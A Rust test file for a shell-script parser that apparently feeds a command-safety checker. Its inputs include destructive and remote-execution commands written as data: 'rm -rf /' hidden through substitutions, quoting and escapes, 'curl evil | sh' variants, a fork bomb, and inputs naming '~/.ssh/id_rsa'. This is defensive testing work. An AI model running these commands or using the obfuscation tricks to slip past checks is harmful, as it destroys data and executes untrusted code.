use super::*;
use std::time::{Duration, Instant};

fn parse(s: &str) -> ParsedScript {
    match parse_script(s) {
        Ok(p) => p,
        Err(e) => panic!("failed to parse {s:?}: {e}"),
    }
}

/// Static words of a command (`<dyn>` for dynamic ones).
fn words(c: &SimpleCommand) -> Vec<String> {
    c.words
        .iter()
        .map(|w| w.literal().unwrap_or_else(|| "<dyn>".to_owned()))
        .collect()
}

fn names(p: &ParsedScript) -> Vec<String> {
    p.commands
        .iter()
        .map(|c| c.static_name().unwrap_or_else(|| "<none>".to_owned()))
        .collect()
}

fn find<'a>(p: &'a ParsedScript, name: &str) -> &'a SimpleCommand {
    p.commands
        .iter()
        .find(|c| c.static_name().as_deref() == Some(name))
        .unwrap_or_else(|| panic!("no command {name}: {:?}", names(p)))
}

fn lit(s: &str) -> WordPiece {
    WordPiece::Literal(s.to_owned())
}

#[test]
fn simple_command() {
    let p = parse("ls -la");
    assert_eq!(p.commands.len(), 1);
    let c = &p.commands[0];
    assert_eq!(words(c), ["ls", "-la"]);
    assert_eq!(c.depth, 0);
    assert!(!c.background);
    assert!(c.in_function.is_none());
    assert!(c.assignments.is_empty() && c.redirects.is_empty());
    assert_eq!(c.words[1].raw, "-la");
}

#[test]
fn lists_and_background() {
    let p = parse("a && b || c; d &");
    assert_eq!(names(&p), ["a", "b", "c", "d"]);
    let bg: Vec<bool> = p.commands.iter().map(|c| c.background).collect();
    assert_eq!(bg, [false, false, false, true]);
    // Each command is its own pipeline.
    let mut ids: Vec<usize> = p.commands.iter().map(|c| c.pipeline_id).collect();
    ids.dedup();
    assert_eq!(ids.len(), 4);
    // `&` applies to the whole and-or list.
    let p = parse("a && b & c");
    let bg: Vec<bool> = p.commands.iter().map(|c| c.background).collect();
    assert_eq!(bg, [true, true, false]);
}

#[test]
fn pipeline() {
    let p = parse("cat x | grep y | sh");
    assert_eq!(names(&p), ["cat", "grep", "sh"]);
    let id = p.commands[0].pipeline_id;
    assert!(p.commands.iter().all(|c| c.pipeline_id == id));
    let pos: Vec<usize> = p.commands.iter().map(|c| c.pipeline_pos).collect();
    assert_eq!(pos, [0, 1, 2]);
    // `|&` adds 2>&1 to the left side.
    let p = parse("make |& tee log");
    assert_eq!(p.commands[0].redirects[0].kind, RedirectKind::DupOut);
    assert_eq!(p.commands[0].redirects[0].fd, Some(2));
    assert_eq!(p.commands[1].pipeline_pos, 1);
}

#[test]
fn subshell_adds_depth() {
    let p = parse("(cd /tmp && rm -rf x)");
    assert_eq!(names(&p), ["cd", "rm"]);
    assert!(p.commands.iter().all(|c| c.depth == 1));
    assert_eq!(words(&p.commands[1]), ["rm", "-rf", "x"]);
    // Brace groups do not.
    let p = parse("{ cd /tmp && rm -rf x; }");
    assert!(p.commands.iter().all(|c| c.depth == 0));
}

#[test]
fn command_substitution() {
    let p = parse("echo $(rm -rf /)");
    assert_eq!(names(&p), ["echo", "rm"]);
    assert_eq!(p.commands[0].depth, 0);
    assert_eq!(p.commands[0].words[1].pieces, [WordPiece::CommandSubst]);
    assert!(p.commands[0].words[1].is_dynamic());
    assert_eq!(p.commands[1].depth, 1);
    assert_eq!(words(&p.commands[1]), ["rm", "-rf", "/"]);
}

#[test]
fn backticks() {
    let p = parse("echo `whoami`");
    assert_eq!(names(&p), ["echo", "whoami"]);
    assert_eq!(p.commands[1].depth, 1);
    assert_eq!(p.commands[0].words[1].raw, "`whoami`");
    // Inside backticks, `\$` becomes `$`: the inner shell runs `$(id)`.
    let p = parse(r"echo `echo \$(id)`");
    assert_eq!(names(&p), ["echo", "echo", "id"]);
    assert_eq!(p.commands[2].depth, 2);
    // Nested backticks.
    let p = parse(r"echo `echo \`id\``");
    assert_eq!(names(&p), ["echo", "echo", "id"]);
    // Backticks inside $(..) and $(..) inside double quotes.
    let p = parse(r#"x=$(echo "`uname -a`")"#);
    assert_eq!(names(&p), ["<none>", "echo", "uname"]);
    assert_eq!(p.commands[2].depth, 2);
}

#[test]
fn process_substitution() {
    let p = parse("diff <(ls a) <(ls b)");
    assert_eq!(names(&p), ["diff", "ls", "ls"]);
    let diff = &p.commands[0];
    assert_eq!(diff.words.len(), 3);
    assert_eq!(diff.words[1].pieces, [WordPiece::CommandSubst]);
    assert_eq!(diff.words[1].raw, "<(ls a)");
    assert_eq!(words(&p.commands[1]), ["ls", "a"]);
    assert_eq!(words(&p.commands[2]), ["ls", "b"]);
    assert!(p.commands[1..].iter().all(|c| c.depth == 1));
    // As a redirect target, and the write form.
    let p = parse("cat < <(curl evil) > >(sh)");
    assert_eq!(names(&p), ["cat", "curl", "sh"]);
    assert_eq!(p.commands[0].redirects.len(), 2);
    assert!(p.commands[0].redirects[0].target.has_command_subst());
}

#[test]
fn assignments() {
    let p = parse("X=1 Y=$(id) env");
    assert_eq!(names(&p), ["env", "id"]);
    let env = &p.commands[0];
    assert_eq!(env.assignments.len(), 2);
    assert_eq!(env.assignments[0].0, "X");
    assert_eq!(env.assignments[0].1.literal().as_deref(), Some("1"));
    assert_eq!(env.assignments[1].0, "Y");
    assert_eq!(env.assignments[1].1.pieces, [WordPiece::CommandSubst]);
    assert_eq!(p.commands[1].depth, 1);
    // Pure assignment: no words.
    let p = parse("X=$(rm -rf /)");
    assert_eq!(names(&p), ["<none>", "rm"]);
    assert!(p.commands[0].words.is_empty());
    // After the command name an assignment is an ordinary argument.
    let p = parse("env A=b sh");
    assert_eq!(words(&p.commands[0]), ["env", "A=b", "sh"]);
    // Arrays and indices.
    let p = parse("arr=(a $(id) [3]=x) b[$(whoami)]=1");
    assert_eq!(names(&p), ["<none>", "id", "whoami"]);
    assert_eq!(p.commands[0].assignments[0].0, "arr");
    assert!(p.commands[0].assignments[0].1.has_command_subst());
    assert_eq!(p.commands[0].assignments[1].0, "b[$(whoami)]");
}

#[test]
fn quote_and_escape_removal() {
    for s in [
        r"\rm -rf /",
        r#""rm" -rf /"#,
        "'rm' -rf /",
        r#"r""m -rf /"#,
        "r''m -rf /",
    ] {
        let p = parse(s);
        assert_eq!(p.commands.len(), 1, "{s}");
        assert_eq!(words(&p.commands[0]), ["rm", "-rf", "/"], "{s}");
        assert_eq!(p.commands[0].words[0].pieces, [lit("rm")], "{s}");
    }
    let p = parse(r#"r""m"#);
    assert_eq!(p.commands[0].static_name().as_deref(), Some("rm"));
    assert_eq!(p.commands[0].words[0].raw, r#"r""m"#);
    // ANSI-C quoting is decoded.
    let p = parse(r"$'\x72\x6d' -rf $'\057' $'a\nb' $'\162m'");
    assert_eq!(words(&p.commands[0]), ["rm", "-rf", "/", "a\nb", "rm"]);
    // Empty quotes are an empty literal word.
    let p = parse(r#"echo """#);
    assert_eq!(p.commands[0].words[1].literal().as_deref(), Some(""));
    // Escaped glob characters are literal.
    let p = parse(r"rm \* '*' x\?");
    assert!(p.commands[0].words.iter().all(|w| !w.has_glob()));
}

#[test]
fn for_loop() {
    let p = parse("for f in $(ls); do rm $f; done");
    assert_eq!(names(&p), ["ls", "rm"]);
    assert_eq!(p.commands[0].depth, 1);
    let rm = &p.commands[1];
    assert_eq!(rm.depth, 0);
    assert_eq!(rm.words[1].pieces, [WordPiece::Param("f".to_owned())]);
    assert!(rm.words[1].is_dynamic());
    assert!(rm.words[1].literal().is_none());
    // Arithmetic for, with a substitution in the header: each expression is an
    // arithmetic command of its own (its names are checked like those of `(( … ))`).
    let p = parse("for ((i=$(id); i<3; i++)); do echo $i; done");
    assert_eq!(names(&p), ["((", "id", "((", "((", "echo"]);
}

#[test]
fn if_while_until() {
    let p = parse("if grep -q x f; then curl x; fi");
    assert_eq!(names(&p), ["grep", "curl"]);
    let p = parse("if a; then b; elif c; then d; else e; fi");
    assert_eq!(names(&p), ["a", "b", "c", "d", "e"]);
    let p = parse("while read l; do sh -c \"$l\"; done; until x; do y; done");
    assert_eq!(names(&p), ["read", "sh", "x", "y"]);
    let p = parse("! ls | grep x; time ls | grep y");
    assert_eq!(names(&p), ["ls", "grep", "ls", "grep"]);
    // After `|`, `time` is an ordinary command name.
    let p = parse("ls | time grep x");
    assert_eq!(names(&p), ["ls", "time"]);
    let p = parse("time -p make");
    assert_eq!(names(&p), ["make"]);
}

#[test]
fn case_statement() {
    let p = parse("case $x in a) rm a;; esac");
    assert_eq!(names(&p), ["rm"]);
    assert_eq!(words(&p.commands[0]), ["rm", "a"]);
    let p = parse("case $(id) in $(whoami)) a;; (b|c) b;& *) c;;& esac");
    assert_eq!(names(&p), ["id", "whoami", "a", "b", "c"]);
}

#[test]
fn functions() {
    let p = parse("f() { rm -rf /; }; f");
    assert_eq!(p.functions, ["f"]);
    assert_eq!(names(&p), ["rm", "f"]);
    assert_eq!(p.commands[0].in_function.as_deref(), Some("f"));
    assert!(p.commands[1].in_function.is_none());
    let p = parse("function g { h() { x; }; y; }");
    assert_eq!(p.functions, ["g", "h"]);
    assert_eq!(p.commands[0].in_function.as_deref(), Some("h"));
    assert_eq!(p.commands[1].in_function.as_deref(), Some("g"));
}

#[test]
fn fork_bomb() {
    let p = parse(":(){ :|:& };:");
    assert_eq!(p.functions, [":"]);
    assert_eq!(names(&p), [":", ":", ":"]);
    let inside: Vec<&SimpleCommand> = p
        .commands
        .iter()
        .filter(|c| c.in_function.as_deref() == Some(":"))
        .collect();
    assert_eq!(inside.len(), 2);
    assert!(inside.iter().all(|c| c.background));
    assert_eq!(inside[0].pipeline_id, inside[1].pipeline_id);
    assert_eq!(inside[1].pipeline_pos, 1);
    let call = &p.commands[2];
    assert!(call.in_function.is_none() && !call.background);
}

#[test]
fn coproc_is_background() {
    let p = parse("coproc ls; coproc w { rm x; }");
    assert_eq!(names(&p), ["ls", "rm"]);
    assert!(p.commands.iter().all(|c| c.background));
}

#[test]
fn heredoc() {
    let p = parse("bash <<EOF\nrm -rf /\nEOF");
    assert_eq!(names(&p), ["bash"]);
    let c = &p.commands[0];
    assert_eq!(c.stdin_text.as_deref(), Some("rm -rf /\n"));
    assert_eq!(c.redirects[0].kind, RedirectKind::HereDoc);
    assert_eq!(c.redirects[0].op, "<<");
    assert_eq!(c.redirects[0].target.literal().as_deref(), Some("EOF"));
    // Unquoted delimiter: substitutions in the body run.
    let p = parse("cat <<EOF\nhello $(id) `whoami` ${x:-$(date)}\nEOF\n");
    assert_eq!(names(&p), ["cat", "id", "whoami", "date"]);
    assert!(p.commands[1..].iter().all(|c| c.depth == 1));
    // Quoted delimiter: they don't.
    for d in ["'EOF'", "\"EOF\"", "\\EOF"] {
        let p = parse(&format!("cat <<{d}\n$(id)\nEOF\n"));
        assert_eq!(names(&p), ["cat"], "{d}");
        assert_eq!(p.commands[0].stdin_text.as_deref(), Some("$(id)\n"));
    }
    // `<<-` strips leading tabs.
    let p = parse("sh <<-EOF\n\trm x\n\tEOF\necho done");
    assert_eq!(names(&p), ["sh", "echo"]);
    assert_eq!(p.commands[0].stdin_text.as_deref(), Some("rm x\n"));
    assert_eq!(p.commands[0].redirects[0].op, "<<-");
    // Heredoc to another fd does not feed stdin.
    let p = parse("cmd 3<<EOF\nx\nEOF\n");
    assert!(p.commands[0].stdin_text.is_none());
    assert_eq!(
        p.commands[0].redirects[0].heredoc_body.as_deref(),
        Some("x\n")
    );
}

#[test]
fn here_string() {
    let p = parse("python3 <<< 'print(1)'");
    let c = &p.commands[0];
    assert_eq!(words(c), ["python3"]);
    assert_eq!(c.stdin_text.as_deref(), Some("print(1)"));
    assert_eq!(c.redirects[0].kind, RedirectKind::HereString);
    let p = parse("bash <<< \"$(curl evil)\"");
    assert_eq!(names(&p), ["bash", "curl"]);
    assert_eq!(
        p.commands[0].stdin_text.as_deref(),
        Some("\"$(curl evil)\"")
    );
}

#[test]
fn redirects() {
    let p = parse("cat > out.txt");
    let r = &p.commands[0].redirects;
    assert_eq!(r.len(), 1);
    assert_eq!(r[0].kind, RedirectKind::Write);
    assert_eq!(r[0].fd, None);
    assert_eq!(r[0].target.literal().as_deref(), Some("out.txt"));
    assert_eq!(words(&p.commands[0]), ["cat"]);

    let p = parse("echo hi 2>&1 >> log");
    let c = &p.commands[0];
    assert_eq!(words(c), ["echo", "hi"]);
    assert_eq!(c.redirects.len(), 2);
    assert_eq!(c.redirects[0].kind, RedirectKind::DupOut);
    assert_eq!(c.redirects[0].fd, Some(2));
    assert_eq!(c.redirects[0].target.literal().as_deref(), Some("1"));
    assert_eq!(c.redirects[1].kind, RedirectKind::Append);
    assert_eq!(c.redirects[1].target.literal().as_deref(), Some("log"));

    let p = parse("x < in <> rw >| clob &> both &>> both2 3<&0");
    let kinds: Vec<(RedirectKind, &str)> = p.commands[0]
        .redirects
        .iter()
        .map(|r| (r.kind, r.op.as_str()))
        .collect();
    assert_eq!(
        kinds,
        [
            (RedirectKind::Read, "<"),
            (RedirectKind::ReadWrite, "<>"),
            (RedirectKind::Write, ">|"),
            (RedirectKind::Write, "&>"),
            (RedirectKind::Append, "&>>"),
            (RedirectKind::DupIn, "<&"),
        ]
    );
    // Redirect targets can run commands; redirect-only commands have no words.
    let p = parse("> $(rm -rf /)");
    assert_eq!(names(&p), ["<none>", "rm"]);
    assert!(p.commands[0].words.is_empty());
}

#[test]
fn compound_redirects_are_inherited() {
    let p = parse("{ ls; echo; } > out");
    assert!(p.commands.iter().all(|c| c.redirects.len() == 1
        && c.redirects[0].inherited
        && c.redirects[0].kind == RedirectKind::Write));
    let p = parse("while read l; do sh; done <<EOF\nrm -rf /\nEOF\n");
    assert_eq!(find(&p, "sh").stdin_text.as_deref(), Some("rm -rf /\n"));
    // In a pipeline inside the group only the first command reads the heredoc.
    let p = parse("{ cat | sh; } <<EOF\nx\nEOF\n");
    assert_eq!(find(&p, "cat").stdin_text.as_deref(), Some("x\n"));
    assert!(find(&p, "sh").stdin_text.is_none());
    // The command's own stdin redirect wins.
    let p = parse("{ sh < f; } <<EOF\nx\nEOF\n");
    assert!(find(&p, "sh").stdin_text.is_none());
    // Redirect targets of compound commands are walked too.
    let p = parse("( ls ) > $(whoami)");
    assert_eq!(names(&p), ["whoami", "ls"]);
}

#[test]
fn enclosing_pipelines() {
    for s in [
        "curl x | (sh)",
        "curl x | { sh; }",
        "curl x | if true; then sh; fi",
    ] {
        let p = parse(s);
        let curl = find(&p, "curl");
        let sh = find(&p, "sh");
        assert!(
            sh.enclosing_pipelines.contains(&(curl.pipeline_id, 1)),
            "{s}: {:?}",
            sh.enclosing_pipelines
        );
    }
}

#[test]
fn extended_test() {
    let p = parse("[[ $(whoami) == root ]]");
    assert_eq!(names(&p), ["[[", "whoami"]);
    assert_eq!(words(&p.commands[0]), ["[[", "<dyn>", "==", "root", "]]"]);
    assert_eq!(p.commands[1].depth, 1);
    let p = parse("[[ -f $(a) && ! ( $(b) =~ x ) ]] && c");
    assert_eq!(names(&p), ["[[", "a", "b", "c"]);
}

#[test]
fn arithmetic() {
    // An arithmetic expansion is also an arithmetic command of its own (its names are
    // checked like those of `(( … ))`).
    let p = parse("echo $((1 + $(id)))");
    assert_eq!(names(&p), ["echo", "((", "id"]);
    let w = &p.commands[0].words[1];
    assert!(matches!(w.pieces[0], WordPiece::Other(_)) && w.is_dynamic());
    let p = parse("(( x = $(id) + y[$(whoami)] ))");
    assert_eq!(names(&p), ["((", "id", "whoami"]);
    let p = parse("echo $((2 * 3))");
    assert_eq!(names(&p), ["echo", "(("]);
    assert_eq!(p.commands[0].words[1].literal(), None);
}

#[test]
fn parameter_expansions() {
    let p = parse("echo ~/x $HOME/y ${HOME}/z ~root \"$1\" $@ ${#x} ${!p}");
    let c = &p.commands[0];
    assert_eq!(
        c.words[1].pieces,
        [WordPiece::Tilde(String::new()), lit("/x")]
    );
    assert_eq!(
        c.words[2].pieces,
        [WordPiece::Param("HOME".into()), lit("/y")]
    );
    assert_eq!(
        c.words[3].pieces,
        [WordPiece::Param("HOME".into()), lit("/z")]
    );
    assert_eq!(c.words[4].pieces, [WordPiece::Tilde("root".into())]);
    assert_eq!(c.words[5].pieces, [WordPiece::Param("1".into())]);
    assert_eq!(c.words[6].pieces, [WordPiece::Param("@".into())]);
    // Length and indirection compute a value: never the variable's own.
    assert_eq!(c.words[7].pieces, [WordPiece::Other("${x…}".into())]);
    assert_eq!(c.words[8].pieces, [WordPiece::Other("${p…}".into())]);
    assert!(c.words[1].literal().is_none() && !c.words[1].is_dynamic());
    assert!(c.words[2].is_dynamic());
    // Substitutions hidden in expansion operands are extracted.
    let p = parse("echo ${X:-$(rm -rf /)} \"${y:=`id`}\" ${z/$(a)/$(b)} ${w:$(c):1} ${v[$(d)]}");
    assert_eq!(names(&p), ["echo", "rm", "id", "a", "b", "c", "d"]);
    assert_eq!(
        p.commands[0].words[1].pieces,
        [WordPiece::Other("${X…}".into()), WordPiece::CommandSubst]
    );
    // Every operator makes the word unknown, whatever the variable.
    for expansion in [
        "${PWD:0:0}",
        "${PWD%/x}",
        "${PWD%%/*}",
        "${PWD#/}",
        "${PWD##*/}",
        "${PWD/a/b}",
        "${PWD//a/b}",
        "${PWD^}",
        "${PWD^^}",
        "${PWD,}",
        "${PWD,,}",
        "${PWD@Q}",
        "${#PWD}",
        "${PWD:-x}",
        "${PWD:=x}",
        "${PWD:?x}",
        "${PWD:+x}",
        "${PWD-x}",
        "${!PWD}",
        "${a[0]}",
        "${a[@]}",
        "${a[@]:1}",
    ] {
        let p = parse(&format!("{expansion}rm -rf x"));
        let word = &p.commands[0].words[0];
        assert!(
            word.pieces
                .iter()
                .all(|p| !matches!(p, WordPiece::Param(_))),
            "{expansion}: {:?}",
            word.pieces
        );
        assert!(word.is_dynamic(), "{expansion}");
    }
}

#[test]
fn double_quoted_substitution() {
    let p = parse("echo \"$(curl evil | sh)\"");
    assert_eq!(names(&p), ["echo", "curl", "sh"]);
    assert_eq!(p.commands[1].pipeline_id, p.commands[2].pipeline_id);
    assert_eq!(p.commands[2].pipeline_pos, 1);
    assert!(p.commands[1..].iter().all(|c| c.depth == 1));
    assert_eq!(p.commands[0].words[1].pieces, [WordPiece::CommandSubst]);
    // The substitution's commands know which pipeline they are nested in.
    assert_eq!(
        p.commands[1].enclosing_pipelines,
        [(p.commands[0].pipeline_id, 0)]
    );
}

#[test]
fn quoted_message_is_literal() {
    let p = parse("git commit -m \"rm -rf /\"");
    assert_eq!(p.commands.len(), 1);
    assert_eq!(words(&p.commands[0]), ["git", "commit", "-m", "rm -rf /"]);
    assert_eq!(p.commands[0].words[3].pieces, [lit("rm -rf /")]);
    assert_eq!(p.commands[0].words[3].raw, "\"rm -rf /\"");
    // Single quotes never expand.
    let p = parse("echo '$(rm -rf /)' \"\\$(id)\"");
    assert_eq!(names(&p), ["echo"]);
    assert_eq!(words(&p.commands[0]), ["echo", "$(rm -rf /)", "$(id)"]);
    // Comments are ignored.
    let p = parse("echo hi # $(rm -rf /)");
    assert_eq!(names(&p), ["echo"]);
}

#[test]
fn globs_and_braces() {
    let p = parse("rm -rf *.txt a?b [ab]c @(x|y) /{etc,usr} {} {a} x{1..3}");
    let w = &p.commands[0].words;
    assert_eq!(w[2].pieces, [WordPiece::Glob("*".into()), lit(".txt")]);
    assert!(w[2].has_glob() && !w[2].is_dynamic());
    assert_eq!(w[2].literal().as_deref(), Some("*.txt"));
    assert!(w[3].has_glob() && w[4].has_glob() && w[5].has_glob());
    // Brace expansion multiplies words: not static.
    assert!(w[6].literal().is_none() && w[6].is_dynamic());
    assert_eq!(w[7].literal().as_deref(), Some("{}"));
    assert_eq!(w[8].literal().as_deref(), Some("{a}"));
    assert!(w[9].is_dynamic());
    let p = parse("{rm,-rf,/}");
    assert!(p.commands[0].static_name().is_none());
}

#[test]
fn errors() {
    for s in [
        "echo \"unterminated",
        "echo 'unterminated",
        "echo $(unterminated",
        "echo `unterminated",
        "if true; then",
        "cat <<EOF\nno end",
        "( ls",
        "ls )",
        "| ls",
    ] {
        assert!(parse_script(s).is_err(), "{s:?} should fail");
    }
    let e = parse_script("echo \"x").unwrap_err();
    assert!(e.to_string().contains("double quote"), "{e}");
}

#[test]
fn empty_and_blank() {
    for s in ["", "   ", "\n\n", "# just a comment\n"] {
        let p = parse(s);
        assert!(p.commands.is_empty() && p.functions.is_empty(), "{s:?}");
    }
}

#[test]
fn nested_substitution_depths() {
    let p = parse("echo $(echo $(echo $(echo $(id))))");
    let depths: Vec<usize> = p.commands.iter().map(|c| c.depth).collect();
    assert_eq!(depths, [0, 1, 2, 3, 4]);
    assert_eq!(p.commands[4].static_name().as_deref(), Some("id"));
    let p = parse("( ( echo $( (id) ) ) )");
    assert_eq!(find(&p, "id").depth, 4);
    assert_eq!(find(&p, "echo").depth, 2);
    // Not arithmetic: the parentheses are not adjacent on both ends.
    for s in ["( (rm -rf /) )", "((rm -rf /) )", "( (rm -rf /))"] {
        let p = parse(s);
        assert_eq!(names(&p), ["rm"], "{s}");
        assert_eq!(p.commands[0].depth, 2, "{s}");
    }
    let p = parse("echo $((echo hi) ) $( (id) )");
    assert_eq!(names(&p), ["echo", "echo", "id"]);
    // Real arithmetic stays arithmetic.
    let p = parse("((i++)); (( j = 2 ))");
    assert_eq!(names(&p), ["((", "(("]);
}

#[test]
fn depth_limit() {
    let ctx = Ctx {
        depth: MAX_DEPTH,
        nesting: 0,
        src: Rc::from(""),
        in_function: None,
        background: false,
        pipelines: Vec::new(),
        inherited_redirects: Rc::default(),
        inherited_stdin: None,
    };
    assert!(ctx.deeper().is_err());
    // Too many substitutions nested in one word.
    let deep = format!("echo {}id{}", "$(echo ".repeat(12), ")".repeat(12));
    assert!(parse_script(&deep).is_err());
}

#[test]
fn heredoc_delimiters_that_hang_brush_are_errors() {
    for s in [
        "<<\r ",
        "<< \r ",
        "<<- \r ",
        "<<\u{c} ",
        "rm x; cat <<\r |",
        "$(<<\t ",
        "<<$(  ",
        "&$( <<-\t do [ x ",
        "]$(-exec << ;;env$ x ",
        "a $( env << &= ",
        "cat <<'' ",
        "]]\\<<<x=1$(\t then",
        "&& <<\" \\;\rfind $( >a 日本語 ",
        "ifdone $( \\; <<<<<- )-exec? ",
        ".claude $( *<<- $(( ||  esac",
        "find<<$(( <rm$1 ",
        "/ <<{}\rsudodo-rfEOF$( \t ]] ~/.ssh/id_rsa ",
        "<(-c ~ <<-$HOME$( <<<} ",
        "$HOME <<- ]]]$((   >>> ",
        "<<-=\\ $( ; {} &\\ é \\x=1 ",
        "done <<\\ #$(  $ || ! ",
        "\0<<-\\;$(( ||$'\\x72m'then",
    ] {
        let started = std::time::Instant::now();
        assert!(parse_script(s).is_err(), "{s:?}");
        assert!(started.elapsed() < Duration::from_secs(1), "{s:?}");
    }
    // Here-strings and ordinary heredocs are unaffected.
    assert!(parse_script("cat <<< \r").is_ok());
    assert!(parse_script("cat <<EOF\nx\nEOF\n").is_ok());
    assert!(parse_script("cat <<- 'EOF'\n\tx\nEOF\n").is_ok());
    assert!(parse_script("echo $((1 << $n)) $(( 2<<3 ))").is_ok());
    assert!(parse_script("grep x <<< \"$(ls)\"; cat <<<'a b'").is_ok());
    assert!(parse_script("cat <<\\EOF\n$x\nEOF\n").is_ok());
}

#[test]
fn brush_panics_become_errors() {
    // Both would hit `unwrap()`s inside brush-parser.
    assert!(parse_script("echo 99999999999>x").is_err());
    assert!(parse_script("echo ~99999999999999999999999").is_err());
    // `2>x` style fds still work.
    assert_eq!(parse("echo 2>x").commands[0].redirects[0].fd, Some(2));
}

/// Inputs that would overflow the stack or backtrack exponentially in brush.
#[test]
fn adversarial_inputs_fail_fast() {
    let cases = [
        "(".repeat(30),
        "( ".repeat(100_000),
        "{ ".repeat(10_000),
        "if x; then ".repeat(2_000),
        "$(".repeat(5_000),
        "${x:-".repeat(5_000),
        "case x in a) ".repeat(20),
        format!("echo {}x", "$(echo @(a|".repeat(6)),
        format!("echo {}\"$\"y\"{}", "$(echo @(a|".repeat(6), "))".repeat(6)),
        format!("echo {}b", "x{a,{".repeat(40)),
        format!("[[ {}x ]]", "( ".repeat(5_000)),
        format!("echo $(({}1{}))", "(".repeat(5_000), ")".repeat(5_000)),
    ];
    for s in &cases {
        let start = Instant::now();
        let _ = parse_script(s);
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "{}... took {:?}",
            s.chars().take(40).collect::<String>(),
            start.elapsed()
        );
    }
}

#[test]
fn repeated_heredoc_text_is_bounded() {
    // Without a budget every `a` would get its own copy of the 400 KB body.
    let s = format!(
        "{{ {} }} <<EOF\n{}\nEOF\n",
        "a;".repeat(20_000),
        "x".repeat(400_000)
    );
    let start = Instant::now();
    let err = parse_script(&s).unwrap_err();
    assert!(err.message.contains("heredoc"), "{err}");
    assert!(start.elapsed() < Duration::from_secs(4));
    // A normal amount of inheritance is fine.
    let p = parse("{ a; b; } <<EOF\nhello\nEOF\n");
    assert!(
        p.commands
            .iter()
            .all(|c| c.stdin_text.as_deref() == Some("hello\n"))
    );
}

/// xorshift; deterministic garbage without extra dependencies.
fn garbage(seed: u64, len: usize, alphabet: &[&str]) -> String {
    let mut x = seed | 1;
    let mut s = String::new();
    while s.len() < len {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        s.push_str(alphabet[(x % alphabet.len() as u64) as usize]);
    }
    s
}

#[test]
fn random_garbage_never_panics() {
    let bytes: Vec<String> = (1u8..=127).map(|b| char::from(b).to_string()).collect();
    let ascii: Vec<&str> = bytes
        .iter()
        .map(String::as_str)
        .chain(["é", "€", "𝄞"])
        .collect();
    let shellish = [
        "(", ")", "$(", "${", "}", "{ ", "`", "'", "\"", "\\", " ", "x", ";", ";;", "&", "|", "<",
        ">", "<<", "EOF\n", "\n", "case ", " in ", "esac", "if ", "then ", "fi", "[[ ", " ]]",
        "((", "))", "$((", "@(", "*", "?", "[", "]", "~", "=", "a=(", "$'", "<(", "2>&1", "<<<",
        "do ", "done", "for ", "f() ", "!", ",", "..",
    ];
    let mut oks = 0;
    for seed in 1..=20u64 {
        for (alphabet, name) in [(&ascii[..], "ascii"), (&shellish[..], "shellish")] {
            let s = garbage(seed * 7919, 10_000, alphabet);
            let start = Instant::now();
            if parse_script(&s).is_ok() {
                oks += 1;
            }
            assert!(
                start.elapsed() < Duration::from_secs(4),
                "{name} seed {seed} took {:?}",
                start.elapsed()
            );
        }
        // Short snippets are more likely to get past the tokenizer.
        for len in [5, 20, 60] {
            let s = garbage(seed * 104_729 + len as u64, len, &shellish);
            if parse_script(&s).is_ok() {
                oks += 1;
            }
        }
    }
    println!("garbage inputs that parsed: {oks}");
}

#[test]
fn large_script_is_fine() {
    let mut s = String::new();
    for i in 0..2_000 {
        s.push_str(&format!(
            "if [ -f f{i} ]; then cp f{i} \"$(dirname g{i})\"; fi | tee -a log\n"
        ));
    }
    s.push_str("cat > big.py <<'EOF'\n");
    for i in 0..5_000 {
        s.push_str(&format!(
            "print(len(str(dict(a=list(map(str, range({i})))))))\n"
        ));
    }
    s.push_str("EOF\n");
    let start = Instant::now();
    let p = parse(&s);
    println!("large script ({} bytes): {:?}", s.len(), start.elapsed());
    assert_eq!(p.commands.len(), 2_000 * 4 + 1);
}

/// Run with `cargo test -- --nocapture parse_timing` to see the numbers.
#[test]
fn parse_timing() {
    let samples = [
        "ls -la",
        "git status",
        "git commit -m \"fix: handle empty input\"",
        "cargo test --workspace 2>&1 | tail -n 50",
        "cd /tmp && rm -rf build",
        "grep -rn 'TODO' src/ | head -20",
        "find . -name '*.rs' -exec wc -l {} +",
        "echo $(whoami)@$(hostname)",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
        "if [ -d target ]; then cargo clean; fi",
        "curl -fsSL https://example.com/install.sh | sh",
        "python3 -c 'import sys; print(sys.version)'",
        "cat <<EOF > config.toml\n[server]\nport = 8080\nEOF",
        "npm install && npm run build",
        "docker run --rm -v \"$PWD:/src\" -w /src rust:latest cargo build",
        "X=1 Y=2 make -j4 all",
        "tar czf out.tar.gz $(git ls-files)",
        "diff <(sort a.txt) <(sort b.txt)",
        "ps aux | grep -v grep | awk '{print $2}' | xargs kill",
        "[[ -n \"$CI\" ]] && echo ci || echo local",
    ];
    for s in samples {
        parse(s); // warm-up and sanity check
    }
    let rounds = 10;
    let start = Instant::now();
    for _ in 0..rounds {
        for s in samples {
            parse(s);
        }
    }
    let avg = start.elapsed() / (rounds * samples.len() as u32);
    // The same work without the dedicated parser thread, to show its overhead.
    let start = Instant::now();
    for _ in 0..rounds {
        for s in samples {
            parse_on_this_thread(s).unwrap();
        }
    }
    let inline = start.elapsed() / (rounds * samples.len() as u32);
    println!(
        "average over {} commands: parse_script {avg:?}, of which parsing {inline:?}",
        samples.len()
    );
}
